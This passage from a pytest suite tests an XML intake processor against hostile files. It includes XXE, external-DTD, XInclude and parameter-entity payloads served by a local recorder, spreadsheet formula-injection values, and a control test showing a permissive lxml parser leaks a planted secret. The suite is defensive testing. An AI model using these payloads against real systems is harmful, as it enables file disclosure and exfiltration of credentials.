    Case("fifo", fifo, mode="skipped", attack=True),
    Case("gbk-honest-bad-byte-late", gbk_late_bad_byte, field="", counts=(29, 29, 0, 0), complete=False),
    Case("prefix-without-namespace-declaration", undeclared_prefix, field="", counts=WHOLE, kind=None),
    Case("truncated-after-root-prefix", raw("zz-cut-prefix.xml", b'<?xml version="1.0"?>\n<ceb:'), field="",
         counts=WHOLE, kind=None),
    Case("record-in-undeclared-prefix-wrapper", wrapped_record, field="Inventory", counts=(2, 1, 1, 0),
         complete=False),
    Case("text-between-fields", text_between_fields, counts=(2, 1, 1, 0)),
    Case("comments-pi-cdata-in-field", comments_in_fields, mode="clean", counts=(1, 1, 0, 0),
         check=names_intact("128GB 黑色")),
    Case("nul-byte", bad_char("zz-nul.xml", "128GB\x00"), field="", counts=(1, 1, 0, 0), complete=False),
    Case("invalid-char-ref", bad_char("zz-charref.xml", "128GB&#1;"), field="", counts=(1, 1, 0, 0), complete=False),
    Case("bare-ampersand", bad_char("zz-amp.xml", "A & B"), field="", counts=(1, 1, 0, 0), complete=False),
    # output safety: a file name and return ids a spreadsheet would run
    *[Case(f"formula-{label}", formula(ch), field="InvtRefundList[1]/qty", counts=(2, 1, 1, 0), kind="CEB213",
           new_returns=(f"{ch}HYPERLINK(1)",), check=formula_check(ch))
      for label, ch in (("equals", "="), ("plus", "+"), ("minus", "-"), ("at", "@"), ("tab", "\t"), ("cr", "\r"))],
]


# -- the machinery -------------------------------------------------------------------------------------------------
class Recorder(BaseHTTPRequestHandler):
    hits: list = []
    token = ""

    def do_GET(self):  # noqa: N802 - http.server API
        Recorder.hits.append(self.path)
        body = (f'<!ENTITY leak "{Recorder.token}"><!ENTITY % send "<!ENTITY x \'{Recorder.token}\'>">'
                if self.path.endswith(".dtd") else Recorder.token).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def http_server():
    Recorder.token = f"HTTP-SECRET-{uuid.uuid4().hex}"
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", Recorder.token
    finally:
        server.shutdown()
        server.server_close()


def run_inprocess(inbox: Path, out: Path) -> tuple[int, str, int | None]:
    result = CliRunner().invoke(main, ["run", "--init", "--inbox", str(inbox), "--out", str(out), "--quiet"])
    text = result.output + ("" if result.exception is None or isinstance(result.exception, SystemExit)
                            else repr(result.exception))
    return result.exit_code, text, None


def run_subprocess(inbox: Path, out: Path, cwd: Path, tmpdir: Path) -> tuple[int, str, int | None]:
    env = {**os.environ, "TMPDIR": str(tmpdir), "PYTHONDONTWRITEBYTECODE": "1"}
    proc = subprocess.run([sys.executable, "-c", RUNNER, "run", "--init", "--inbox", str(inbox), "--out", str(out), "--quiet"],
                          cwd=cwd, env=env, capture_output=True, timeout=60)
    err = proc.stderr.decode("utf-8", "replace")
    m = re.search(r"MAXRSS_KB=(\d+)", err)
    return proc.returncode, proc.stdout.decode("utf-8", "replace") + err, int(m.group(1)) if m else None


def snapshot(root: Path, skip: Path) -> dict:
    """Every entry under root except `skip`: type, size, mode, mtime and content hash (never opening a FIFO)."""
    seen = {}
    for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
        d = Path(dirpath)
        if d == skip or skip in d.parents:
            dirnames[:] = []
            continue
        for n in dirnames + filenames:
            p = d / n
            if p == skip:
                continue
            st = os.lstat(p)
            entry = (stat.S_IFMT(st.st_mode), st.st_size, st.st_mtime_ns)
            if stat.S_ISREG(st.st_mode):
                entry += (hashlib.sha256(p.read_bytes()).hexdigest(),)
            elif stat.S_ISLNK(st.st_mode):
                entry += (os.readlink(p),)
            seen[str(p.relative_to(root))] = entry
    return seen


def read_csv(path: Path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def decision_rows(out: Path) -> list[dict]:
    return [{k: v for k, v in r.items() if k != "batch_id"} for r in read_csv(out / "decisions.csv")]


def shown(name: str) -> str:
    """A file name as quarantine.csv shows it: escaped from its bytes (a tab as \\x09: CONTRACT.md 1), then, as
    any cell, neutralised where a spreadsheet would take it for a formula."""
    from processor.stages.intake import shown as escaped

    name = escaped(name)
    return "'" + name if name.startswith(FORMULA_START) else name


@dataclass
class Baseline:
    good_names: list
    decisions: list
    files: dict
    inputs: dict
    rss_kb: int | None


@pytest.fixture(scope="module")
def baseline(tmp_path_factory) -> Baseline:
    base = tmp_path_factory.mktemp("baseline")
    names = write_good(base / "inbox")
    code, text, _ = run_inprocess(base / "inbox", base / "out")
    assert code == 0, text
    summary = json.loads((base / "out" / "summary.json").read_text(encoding="utf-8"))
    assert summary["accounting_balanced"] and summary["quarantine_rows"] == 0
    decisions = decision_rows(base / "out")
    # the baseline shows every decision, a withdrawn return, a receipt-filled invtNo and a cancelled list
    assert {r["decision"] for r in decisions} == {"EXEMPT", "PENDING", "REJECTED"}, decisions
    assert any("EXPORT_VOID" in r["reasons"] for r in decisions)
    assert any(r["invt_no"] == ASSIGNED_6 for r in decisions)
    (base / "cwd").mkdir()
    (base / "tmp").mkdir()
    code, text, rss = run_subprocess(base / "inbox", base / "out-sub", base / "cwd", base / "tmp")
    assert code == 0, text
    assert decision_rows(base / "out-sub") == decisions
    return Baseline(names, decisions, {f["name"]: f for f in summary["files"]}, summary["inputs"], rss)


COUNT_KEYS = ("read", "stored", "quarantined", "duplicates")
TIMES: dict = {}


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=c.marks) for c in CASES])
def test_hostile_file(case: Case, baseline: Baseline, http_server, tmp_path, monkeypatch):
    url, http_token = http_server
    inbox, out, outside = tmp_path / "inbox", tmp_path / "out", tmp_path / "outside"
    cwd, systmp, private = tmp_path / "cwd", tmp_path / "systmp", tmp_path / "private"
    for d in (outside, cwd, systmp, private):
        d.mkdir()
    assert write_good(inbox) == baseline.good_names
    token = f"SECRET-{uuid.uuid4().hex}"
    secret = private / "credentials.xml"
    secret.write_text(f"{token}\n", encoding="utf-8")
    ctx = Ctx(tmp_path, inbox, outside, secret, token, url, http_token)
    name, line = case.build(ctx)
    hits_before = len(Recorder.hits)
    before = snapshot(tmp_path, out)

    started = time.monotonic()
    if case.attack:
        code, output, rss = run_subprocess(inbox, out, cwd, systmp)
    else:
        monkeypatch.chdir(cwd)
        monkeypatch.setattr(tempfile, "tempdir", str(systmp))
        code, output, rss = run_inprocess(inbox, out)
    elapsed = time.monotonic() - started
    TIMES[case.id] = elapsed

    # the batch completed, quickly, and within bounded memory
    assert code == 0, output
    assert elapsed < (ATTACK_SECONDS if case.attack else CASE_SECONDS), elapsed
    if case.attack and rss is not None and baseline.rss_kb is not None:
        assert rss < baseline.rss_kb + RSS_ALLOWANCE_KB, (rss, baseline.rss_kb)

    # nothing outside --out was written, nothing fetched, no secret leaked
    assert snapshot(tmp_path, out) == before
    assert Recorder.hits[hits_before:] == []
    reports = sorted(p.name for p in out.iterdir() if not p.name.startswith("ledger.sqlite"))
    assert reports == ["backpay.csv", "decisions.csv", "processor.log", "quarantine.csv", "reconciliation.xml",
                       "summary.json"], reports
    for p in out.iterdir():
        data = p.read_bytes()
        assert token.encode() not in data and http_token.encode() not in data, p.name
        if not p.name.startswith("ledger.sqlite"):
            assert len(data) < REPORT_CAP, (p.name, len(data))
    assert token not in output and http_token not in output
    for csv_name in ("decisions.csv", "backpay.csv", "quarantine.csv"):
        assert (out / csv_name).read_bytes().startswith(BOM), csv_name

    # accounting
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert summary["accounting_balanced"] is True
    for kind, c in summary["inputs"].items():
        for what in ("records", "items"):
            assert c[what]["read"] == sum(c[what][k] for k in COUNT_KEYS[1:]), (kind, what, c[what])
    files = {f["name"]: f for f in summary["files"]}
    for f in files.values():
        assert f["read"] == f["stored"] + f["quarantined"] + f["duplicates"], f
    for good in baseline.good_names:
        assert {k: files[good][k] for k in (*COUNT_KEYS, "complete")} == \
               {k: baseline.files[good][k] for k in (*COUNT_KEYS, "complete")}, good
    extra = {n: f for n, f in files.items() if n not in baseline.files}
    for kind in set(summary["inputs"]) | set(baseline.inputs):
        got = summary["inputs"].get(kind, {}).get("records", dict.fromkeys(COUNT_KEYS, 0))
        base = baseline.inputs.get(kind, {}).get("records", dict.fromkeys(COUNT_KEYS, 0))
        added = {k: sum(f[k] for f in extra.values() if (f["kind"] or "FILE") == kind) for k in COUNT_KEYS}
        assert {k: got[k] - base[k] for k in COUNT_KEYS} == added, (kind, got, base, added)

    # decisions of the good returns exactly as in the baseline
    decisions = decision_rows(out)
    good_ids = {r["return_id"] for r in baseline.decisions}
    assert [r for r in decisions if r["return_id"] in good_ids] == baseline.decisions
    new_ids = {r["return_id"].removeprefix("'") for r in decisions} - good_ids
    assert new_ids <= set(case.new_returns), new_ids

    # quarantine.csv: rows name the bad file only, with line and field
    rows = read_csv(out / "quarantine.csv")
    assert summary["quarantine_rows"] == len(rows)
    assert {r["file"] for r in rows} <= {shown(name)}, rows
    mine = [r for r in rows if r["file"] == shown(name)]
    from processor.stages.intake import shown as escaped

    name_shown = escaped(name)  # summary.json and the log name the file as the reports do, escaped from its bytes
    if case.mode == "skipped":
        assert name_shown not in files and rows == []
        # a skipped entry is a warning in summary.json and the log, saying why it was not read
        warned = [w for w in summary["warnings"]["first"] if w["file"] == name_shown and w["problem"].startswith("skipped")]
        assert warned, "the skipped entry is not among the summary's warnings"
        log = (out / "processor.log").read_text(encoding="utf-8")
        assert any(json.loads(ln).get("event") == "input_warning" and json.loads(ln).get("file") == name_shown
                   for ln in log.splitlines()), "the skipped entry is not in the log"
    else:
        f = files[name_shown]
        assert f["kind"] == case.kind or case.mode == "any", f
        if case.counts is not None:
            assert tuple(f[k] for k in COUNT_KEYS) == case.counts, f
        if case.complete is not None:
            assert f["complete"] is case.complete, f
        if case.mode == "quarantine":
            assert mine, f"no quarantine row names {name!r}"
            if case.field is not None:
                at_field = [r for r in mine if r["field"] == case.field]
                assert at_field, (case.field, mine)
                if isinstance(line, int):
                    assert str(line) in [r["line"] for r in at_field], (line, at_field)
                elif line == ANY:
                    assert all(r["line"] for r in at_field), at_field
        elif case.mode in ("clean", "duplicate"):
            assert mine == [], mine
        elif case.mode == "any":
            assert mine or (f["quarantined"] == 0 and f["stored"] == f["read"]), (f, mine)
    if case.check:
        case.check(ctx, out, name)


LIVE = {  # case id -> how a permissive parser falls for it: "file" leaks the secret, "http" fetches a URL
    "xxe-local-file": "file", "external-dtd-file-path": "file", "xinclude-file": "file",
    "xxe-http-entity": "http", "external-dtd-http": "http", "xinclude-http": "http", "parameter-entities": "http",
}


@pytest.mark.parametrize("case_id", sorted(LIVE))
def test_attack_files_are_live(case_id, http_server, tmp_path):
    """Control: the attack files do leak or fetch with a permissive parser, so the checks above are not vacuous."""
    from lxml import etree

    url, http_token = http_server
    case = next(c for c in CASES if c.id == case_id)
    for d in ("inbox", "outside", "private"):
        (tmp_path / d).mkdir()
    token = f"SECRET-{uuid.uuid4().hex}"
    secret = tmp_path / "private" / "credentials.xml"
    secret.write_text(token, encoding="utf-8")
    ctx = Ctx(tmp_path, tmp_path / "inbox", tmp_path / "outside", secret, token, url, http_token)
    name, _ = case.build(ctx)
    hits_before = len(Recorder.hits)
    parser = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=False, huge_tree=True)
    try:
        tree = etree.parse(str(ctx.inbox / name), parser)
        tree.xinclude()
        text = etree.tostring(tree, encoding="unicode")
    except etree.LxmlError:
        text = ""
    if LIVE[case_id] == "file":
        assert token in text
    elif not Recorder.hits[hits_before:]:
        pytest.skip(f"libxml2 {etree.LIBXML_VERSION} here has no HTTP client: even a permissive parser fetches "
                    f"nothing, so the no-fetch checks hold trivially on this build")


def test_enough_cases():
    assert len(CASES) >= 45 and len({c.id for c in CASES}) == len(CASES)


def test_report_times(capsys):
    """Print how long each case took (run last in file order; informational)."""
    if TIMES:
        slow = sorted(TIMES.items(), key=lambda kv: -kv[1])[:5]
        with capsys.disabled():
            print(f"\nhostile cases run: {len(TIMES)}, total {sum(TIMES.values()):.1f}s, slowest: "
                  + ", ".join(f"{k} {v:.2f}s" for k, v in slow))
